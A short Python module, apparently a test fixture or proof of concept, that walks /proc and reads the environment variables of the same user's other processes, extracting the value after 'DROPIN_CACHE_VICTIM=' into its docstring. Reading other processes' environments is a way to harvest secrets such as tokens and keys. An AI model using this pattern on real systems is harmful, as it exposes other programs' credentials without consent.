"""Reads the environment of other processes of the same user."""

import contextlib
import os

__doc__ = ""
for process in os.listdir("/proc"):
    with contextlib.suppress(OSError), open(f"/proc/{process}/environ", encoding="utf-8") as file:
        __doc__ += file.read().partition("DROPIN_CACHE_VICTIM=")[2]
